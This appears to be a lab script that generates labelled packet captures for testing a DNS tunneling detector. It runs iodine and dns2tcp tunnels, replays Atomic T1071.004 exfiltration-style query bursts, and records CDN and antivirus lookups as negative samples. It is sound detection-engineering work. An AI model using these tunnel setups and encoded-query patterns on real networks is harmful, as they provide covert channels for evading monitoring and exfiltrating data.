#!/usr/bin/env bash
# make-tunneling.sh -- pcaps/detect/tunneling/: real DNS tunnels (iodine, dns2tcp) and the seed's Atomic tests,
# plus CDN/AV-style long names and ordinary lookups as negatives.
# Path for everything: client ws1 10.20.1.10 -> sanctioned resolver 10.20.0.53 -> outside servers. The resolver
# forwards t1.badexample.org to iodined (198.51.100.53) and d1.badexample.org to dns2tcpd (198.51.100.54)
# ("forward only" zones); badexample.org/.net/.io are served by knotd 198.51.100.10. No host filter: captures
# contain both hops (client->resolver and resolver->tunnel server), as an internal tap would.
. "$(dirname "$0")/lib.sh"
lab_up
S=lab/make-tunneling.sh
O=$PCAPS_DIR/detect/tunneling
mkdir -p "$O" "$LAB_TMP/www" "$LAB_TMP/d2t"
x() { local n=$1; shift; nsx "$n" "$@" >/dev/null 2>&1 || true; }
POS="tunneling MUST alert"
# 8 kB deterministic payload served over the tunnels
seq 1 1400 | sed 's/^/line-/' | head -c 8192 >"$LAB_TMP/www/payload.txt"

# ---- iodine 0.7.0 (NULL/Base128 + EDNS0, lazy mode) -- ~25 s
bg_start iodined tun iodined -f -c -l 198.51.100.53 -P labpass 172.30.0.1/27 t1.badexample.org
for i in $(seq 1 50); do nsx tun ip -br addr show dns0 2>/dev/null | grep -q 172.30.0.1 && break; sleep 0.2; done
bg_start http-iod tun /usr/bin/python3 -m http.server --bind 172.30.0.1 8080 --directory "$LAB_TMP/www"
cap_start "$O/pos-iodine.pcap"
bg_start iodine ws1 iodine -f -P labpass -r 10.20.0.53 t1.badexample.org
for i in $(seq 1 100); do nsx ws1 ip -br addr show dns0 2>/dev/null | grep -q 172.30.0.2 && break; sleep 0.3; done
x ws1 curl -s -m 30 -o /dev/null http://172.30.0.1:8080/payload.txt
sleep 8
x ws1 curl -s -m 30 -o /dev/null http://172.30.0.1:8080/payload.txt
sleep 8
bg_stop iodine
cap_stop
bg_stop http-iod; bg_stop iodined
sleep 6   # let the resolver give up on queries still in flight to iodined before the next capture
cap_record "$O/pos-iodine.pcap" "$S" "tun: iodined -f -c -l 198.51.100.53 -P labpass 172.30.0.1/27 t1.badexample.org; ws1: iodine -f -P labpass -r 10.20.0.53 t1.badexample.org; curl http://172.30.0.1:8080/payload.txt (8 kB) twice through the tunnel, ~20 s" \
  "iodine handshake (version/login/codec/fragment-size probing), then NULL queries with Base128 (non-LDH bytes) encoded upstream data and raw downstream data, lazy-mode polling; 2 x 8 kB HTTP downloads inside the tunnel" \
  "$POS (client 10.20.1.10 and the resolver 10.20.0.53 towards 198.51.100.53; registered domain badexample.org)"

# ---- dns2tcp 0.5.2 (TXT, base64-ish labels) -- ~10 s
cat >"$LAB_TMP/d2t/dns2tcpd.conf" <<CONF
listen = 198.51.100.54
port = 53
chroot = $LAB_TMP/d2t
domain = d1.badexample.org
resources = web:127.0.0.1:8080
CONF
bg_start http-d2t tun /usr/bin/python3 -m http.server --bind 127.0.0.1 8080 --directory "$LAB_TMP/www"
bg_start dns2tcpd tun dns2tcpd -F -f "$LAB_TMP/d2t/dns2tcpd.conf"
sleep 1
cap_start "$O/pos-dns2tcp.pcap"
bg_start dns2tcpc ws1 dns2tcpc -z d1.badexample.org -r web -l 8082 10.20.0.53
sleep 2
x ws1 curl -s -m 30 -o /dev/null http://127.0.0.1:8082/payload.txt
sleep 2
x ws1 curl -s -m 30 -o /dev/null http://127.0.0.1:8082/payload.txt
sleep 2
bg_stop dns2tcpc
cap_stop
bg_stop dns2tcpd; bg_stop http-d2t
cap_record "$O/pos-dns2tcp.pcap" "$S" "tun: dns2tcpd -F -f dns2tcpd.conf (listen 198.51.100.54, domain d1.badexample.org, resource web:127.0.0.1:8080); ws1: dns2tcpc -z d1.badexample.org -r web -l 8082 10.20.0.53; curl http://127.0.0.1:8082/payload.txt twice" \
  "dns2tcp session: auth/resource requests then TXT queries with encoded TCP payload in long labels, TXT answers carrying the downstream data (2 x 8 kB HTTP)" \
  "$POS (registered domain badexample.org)"

# ---- Atomic T1071.004 test 1: 20 TXT queries, base32 subdomains under c2test.
prng_names c2test-seed 20 b32 | sed 's/$/.c2test.badexample.org TXT/' >"$LAB_TMP/b32.batch"
cap_start "$O/pos-atomic-b32-txt.pcap"
while read -r n t; do x ws1 dig "$n" "$t"; sleep 0.5; done <"$LAB_TMP/b32.batch"
cap_stop
cap_record "$O/pos-atomic-b32-txt.pcap" "$S" "ws1: 20 x dig <base32(20 random bytes, seeded)>.c2test.badexample.org TXT via 10.20.0.53, 0.5 s apart" \
  "Atomic test 1: 20 TXT queries with 32-char base32 labels (qname length 54) answered by a wildcard TXT" \
  "$POS (>= 10 encoded names in 10 min; TXT)"

# ---- Atomic T1071.004 test 3: 100 A queries, random 30-char subdomains under exfil., rapid succession
prng_names exfil-seed 100 alnum30 | sed 's/$/.exfil.badexample.net A/' >"$LAB_TMP/exfil.batch"
cap_start "$O/pos-atomic-burst.pcap"
x ws1 dig +tries=1 +time=2 -f "$LAB_TMP/exfil.batch"
cap_stop
cap_record "$O/pos-atomic-burst.pcap" "$S" "ws1: dig -f batch (100 lines '<30 random [a-z0-9] chars, seeded>.exfil.badexample.net A') via 10.20.0.53" \
  "Atomic test 3: 100 A queries for unique random 30-character labels (qname length 51) in ~1 s, wildcard A answers; the resolver's 100 upstream queries to 198.51.100.10 are also in the file" \
  "$POS (the seed ES|QL rule: >20 queries, >10 unique, avg length > 40)"

# ---- negatives
cdn() {
  local n
  for n in e1234.a.akamaiedge.net e6789.dscb.akamaiedge.net e11290.dspg.akamaiedge.net \
           d111111abcdef8.cloudfront.net d3f8a9b2c1e0d4.cloudfront.net d2zv5rkii46miq.cloudfront.net \
           a1b2c3d4e5f6a7b8.azureedge.net img-prod-cms-rt-microsoft-com.akamaized.net \
           global.ssl.fastly.net dualstack.n.sni.global.fastly.net \
           0.0.0.0.1.0.0.4e.13cfdfa4d1bd97a7b5ef8b8e3f2a6c0d.sxl.sophosxl.net \
           3.0.0.0.1.0.0.4e.5f4dcc3b5aa765d61d8327deb882cf99.sxl.sophosxl.net \
           a1f7c2b90e4d3f65a8b7c6d5e4f3a2b1c0d9e8f7.gti.mcafee.com \
           4.3.2.1.zen.spamhaus.org 66.113.0.203.zen.spamhaus.org \
           wpad-5d41402abc4b2a76b9719d911017c592.trendmicro.com; do
    x ws1 dig "$n" A; sleep 1.3
  done
}
rndc_in res1 flush >/dev/null 2>&1 || true
cap_start "$O/neg-cdn-av.pcap"
cdn
cap_stop
cap_record "$O/neg-cdn-av.pcap" "$S" "ws1: 16 x dig <CDN/AV/DNSBL-style long name> A via 10.20.0.53, 1.3 s apart (see cdn())" \
  "CDN (akamaiedge, cloudfront, azureedge, akamaized, fastly), AV cloud lookups (sophosxl, mcafee gti, trendmicro) and DNSBL (spamhaus) names, some hex/hash-like labels, at a normal rate" \
  "tunneling must NOT alert (low volume; known benign encoders)"

normal() {
  local n
  for n in www.example.com mail.example.com www.microsoft.com www.github.com www.google.com slack.com teams.example.com \
           www.wikipedia.org stackoverflow.com www.python.org debian.org intranet.example.com wiki.example.com \
           login.live.com outlook.office.com; do
    x ws1 dig "$n" A; x ws1 dig "$n" AAAA; sleep 0.7
  done
}
cap_start "$O/neg-normal.pcap"
normal
cap_stop
cap_record "$O/neg-normal.pcap" "$S" "ws1: dig A+AAAA for 15 ordinary names via 10.20.0.53, 0.7 s apart" \
  "ordinary lookups of short names" "tunneling must NOT alert"
log "tunneling done"
